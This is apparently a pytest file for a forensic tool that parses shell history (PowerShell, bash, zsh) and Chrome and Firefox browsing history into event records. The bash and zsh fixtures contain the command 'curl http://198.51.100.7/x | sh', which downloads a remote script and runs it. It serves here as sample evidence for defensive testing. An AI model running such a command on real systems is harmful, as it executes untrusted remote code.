"""What people typed and where they browsed."""

from __future__ import annotations

import hashlib
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingestion.evidence.containers.base import Item
from tests.ingestion.evidence.artefacts.making import artefact, parsed, wanting

CONSOLE = "Users/jdupont/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
CHROME = "Users/jdupont/AppData/Local/Google/Chrome/User Data/Default/History"
WEBKIT = 13_436_928_000_000_000 + 1_500_000  # 2026-10-20T00:00:01.5Z


def test_powershell(tmp_path: Path) -> None:
    one = artefact(tmp_path, "whoami\r\nInvoke-Thing `\r\n  -Où é\r\n\r\nexit\r\n".encode(), CONSOLE)
    assert wanting(one) == ["shell_history"]
    records, faults, _ = parsed("shell_history", one)
    assert faults == []
    assert [found["process.command_line"] for found in records] == ["whoami", "Invoke-Thing \n  -Où é", "exit"]
    assert {found["user.name"] for found in records} == {"jdupont"}
    assert {found["event.dataset"] for found in records} == {"powershell.history"}
    assert [found["iocmarket.offset_or_record"] for found in records] == ["1", "2", "5"]
    assert {found["@timestamp"] for found in records} == {None}


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("home/alice/.bash_history", b"ls\n#1793491201\ncurl http://198.51.100.7/x | sh\n"),
        ("home/alice/.zsh_history", b"ls\n: 1793491201:0;curl http://198.51.100.7/x | sh\n"),
    ],
    ids=["bash", "zsh"],
)
def test_shells_that_say_when(path: str, content: bytes, tmp_path: Path) -> None:
    one = artefact(tmp_path, content, path, volume="")
    assert wanting(one) == ["shell_history"]
    first, second = parsed("shell_history", one)[0]
    assert (first["@timestamp"], first["event.kind"]) == (None, "state")
    assert second["@timestamp"] == "2026-11-01T00:00:01.000000Z"
    assert second["process.command_line"] == "curl http://198.51.100.7/x | sh"
    assert second["user.name"] == "alice"


def database(path: Path, script: str) -> bytes:
    path.unlink(missing_ok=True)
    connection = sqlite3.connect(path)
    connection.executescript(script)
    connection.commit()
    connection.close()
    return path.read_bytes()


CHROMIUM = f"""
CREATE TABLE urls (id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR);
CREATE TABLE visits (id INTEGER PRIMARY KEY, url INTEGER, visit_time INTEGER);
CREATE TABLE downloads (id INTEGER PRIMARY KEY, target_path LONGVARCHAR, start_time INTEGER, total_bytes INTEGER);
CREATE TABLE downloads_url_chains (id INTEGER, chain_index INTEGER, url LONGVARCHAR);
INSERT INTO urls VALUES (7, 'https://evil.example.net/a?b', 'Mise à jour');
INSERT INTO visits VALUES (1, 7, {WEBKIT}), (2, 7, 0);
INSERT INTO downloads VALUES (3, 'C:\\Users\\jdupont\\Downloads\\maj.exe', {WEBKIT}, 4096);
INSERT INTO downloads_url_chains VALUES (3, 0, 'https://a.example.net'), (3, 1, 'https://cdn.example.net/maj.exe');
"""


def test_chromium(tmp_path: Path) -> None:
    one = artefact(tmp_path, database(tmp_path / "db", CHROMIUM), CHROME)
    assert wanting(one) == ["browser_history"]
    records, faults, _ = parsed("browser_history", one)
    assert faults == []
    visit, undated, download = records
    assert visit["@timestamp"] == "2026-10-20T00:00:01.500000Z"
    assert (visit["url.full"], visit["url.domain"]) == ("https://evil.example.net/a?b", "evil.example.net")
    assert "Mise à jour" in visit["message"]
    assert undated["@timestamp"] is None
    assert download["url.full"] == "https://cdn.example.net/maj.exe"
    assert (download["file.name"], download["file.size"]) == ("maj.exe", 4096)
    assert {found["user.name"] for found in records} == {"jdupont"}


def test_firefox_with_what_is_still_in_its_log(tmp_path: Path) -> None:
    path = tmp_path / "live"
    connection = sqlite3.connect(path)
    connection.executescript(
        "PRAGMA journal_mode=WAL; CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT);"
        "CREATE TABLE moz_historyvisits (id INTEGER PRIMARY KEY, place_id INTEGER, visit_date INTEGER);"
        "PRAGMA wal_checkpoint(TRUNCATE); INSERT INTO moz_places VALUES (1, 'https://late.example.net/', NULL);"
        "INSERT INTO moz_historyvisits VALUES (1, 1, 1793491201000000);"
    )
    main, log = path.read_bytes(), path.with_name("live-wal").read_bytes()
    connection.close()
    one = artefact(tmp_path, main, "home/alice/.mozilla/firefox/x.default/places.sqlite", volume="")
    assert wanting(one) == ["browser_history"]
    assert parsed("browser_history", one)[0] == []
    (tmp_path / "log").write_bytes(log)
    beside = Item(tmp_path / "log", one.item.path + "-wal", "", len(log), hashlib.sha256(log).hexdigest())
    both = replace(one, context=replace(one.context, siblings=lambda path: beside if path == beside.path else None))
    (found,), faults, _ = parsed("browser_history", both)
    assert faults == []
    assert found["url.domain"] == "late.example.net"
    assert found["@timestamp"] == "2026-11-01T00:00:01.000000Z"


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    cut=st.integers(100, 30_000), flips=st.lists(st.tuples(st.integers(16, 20_000), st.integers(1, 255)), max_size=9)
)
def test_cut_and_flipped_databases_never_fail(cut: int, flips: list[tuple[int, int]], tmp_path: Path) -> None:
    content = bytearray(database(tmp_path / "db", CHROMIUM))
    for place, bits in flips:
        content[place % len(content)] ^= bits
    for found in parsed("browser_history", artefact(tmp_path, bytes(content[:cut]), CHROME))[0]:
        assert found["event.dataset"] == "browser.history"
